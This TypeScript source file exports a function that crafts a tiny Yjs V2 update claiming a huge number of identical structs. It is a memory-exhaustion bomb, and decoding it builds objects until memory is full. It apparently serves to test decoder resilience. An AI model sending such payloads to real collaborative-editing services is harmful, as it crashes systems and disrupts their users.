/** Number in seven-bit groups, the lowest first. */
function varUint(number: number): number[] {
  const bytes: number[] = []
  for (let rest = number; ; rest = Math.floor(rest / 128)) {
    if (rest < 128) return [...bytes, rest]
    bytes.push((rest % 128) + 128)
  }
}

/**
 * A Yjs V2 update of a few dozen bytes that says it holds `structs` structs, all alike: whoever decodes it builds them one by one until the
 * memory is full.
 */
export function docBomb(structs: number): Uint8Array {
  const NONE = [0]
  const column = (bytes: readonly number[]): number[] => [...varUint(bytes.length), ...bytes]
  return Uint8Array.from([
    ...NONE, // feature flag
    ...column([]), // key clocks
    ...column([5]), // clients
    ...column([]), // left clocks
    ...column([]), // right clocks
    ...column([0]), // infos: garbage-collected, for ever
    ...column(NONE), // strings: an empty one
    ...column([]), // infos of parents
    ...column([]), // types
    ...column([0x41, ...varUint(structs)]), // lengths: minus one, so a run of ones
    ...varUint(1), // clients that wrote
    ...varUint(structs),
    ...varUint(0), // clock it begins with
    ...NONE, // clients that deleted
  ])
}
